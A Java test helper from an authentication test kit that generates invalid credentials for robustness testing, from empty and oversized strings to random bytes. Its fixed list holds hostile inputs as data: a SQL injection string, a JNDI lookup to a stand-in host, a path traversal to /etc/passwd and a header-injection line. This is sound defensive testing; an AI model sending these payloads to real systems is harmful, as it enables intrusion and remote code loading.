package dev.latchkey.auth.testkit;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;

/** Credentials that are none, by a description of each. */
final class Garbage {

    private static final String SEED = "latchkey.contract.seed";
    private static final int MEGABYTE = 1 << 20;
    private static final int LONGEST_RANDOM = 2_000;
    private static final String WORD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

    private final long seed;
    private final Random random;

    Garbage() {
        this(Long.getLong(SEED, new Random().nextLong()));
    }

    private Garbage(long seed) {
        this.seed = seed;
        this.random = new Random(seed);
    }

    /** How to have the same again. */
    String repeat() {
        return "-D" + SEED + "=" + seed;
    }

    Map<String, String> credentials() {
        Map<String, String> all = new LinkedHashMap<>(fixed());
        all.put("a megabyte of one letter", "a".repeat(MEGABYTE));
        all.put("a megabyte of dots", ".".repeat(MEGABYTE));
        all.put("a megabyte of random letters", word(MEGABYTE));
        all.put("deeply nested JSON", "[".repeat(100_000));
        all.put(
                "deeply nested JSON in base64url",
                base64url("{\"a\":".repeat(20_000).getBytes(StandardCharsets.UTF_8)));
        for (int i = 0; i < 60; i++) {
            all.put("random characters " + i, characters(random.nextInt(LONGEST_RANDOM)));
            all.put("random bytes in base64 " + i, Base64.getEncoder().encodeToString(bytes()));
            all.put("random parts " + i, base64url(bytes()) + "." + base64url(bytes()) + "." + base64url(bytes()));
            all.put(
                    "random pair " + i,
                    Base64.getEncoder().encodeToString((word(9) + ":" + word(9)).getBytes(StandardCharsets.UTF_8)));
        }
        return all;
    }

    private static Map<String, String> fixed() {
        Map<String, String> all = new LinkedHashMap<>();
        all.put("an empty credential", "");
        all.put("a blank", " ");
        all.put("blanks", " \t  ");
        all.put("a NUL", "\0");
        all.put("control characters", "\u0001\u0007\u001b[31m\u007f\u0085");
        all.put("line breaks", "a\r\nSet-Cookie: a=b\r\n\r\n");
        all.put("other alphabets", "пароль:密码:كلمة");
        all.put("characters outside the basic plane", "\ud83d\udd11\ud83d\udd12");
        all.put("half a surrogate pair", "\ud83d");
        all.put("text that runs backwards", "\u202eabc\u202c\ufeff");
        all.put("a colon", ":");
        all.put("dots", "..");
        all.put("equals signs", "====");
        all.put("a word", "null");
        all.put("a negative number", "-1");
        all.put("a huge number", "9".repeat(400));
        all.put("an empty JSON object", "{}");
        all.put("a piece of SQL", "' OR '1'='1' --");
        all.put("a format", "%s%n%d{}${jndi:ldap://id.example.com/a}");
        all.put("a path", "../../../etc/passwd");
        all.put("percent signs", "%00%ff%zz%");
        all.put("the scheme twice", "Bearer Bearer");
        return all;
    }

    String word(int length) {
        StringBuilder text = new StringBuilder(length);
        random.ints(length, 0, WORD.length()).forEach(at -> text.append(WORD.charAt(at)));
        return text.toString();
    }

    private String characters(int length) {
        StringBuilder text = new StringBuilder(length);
        random.ints(length, 0, Character.MAX_VALUE + 1).forEach(each -> text.append((char) each));
        return text.toString();
    }

    private byte[] bytes() {
        byte[] bytes = new byte[random.nextInt(LONGEST_RANDOM)];
        random.nextBytes(bytes);
        return bytes;
    }

    /** One character of a text replaced by another. */
    String altered(String text) {
        int at = random.nextInt(text.length());
        char other = WORD.charAt(random.nextInt(WORD.length()));
        return text.substring(0, at) + other + text.substring(at + 1);
    }

    private static String base64url(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }
}
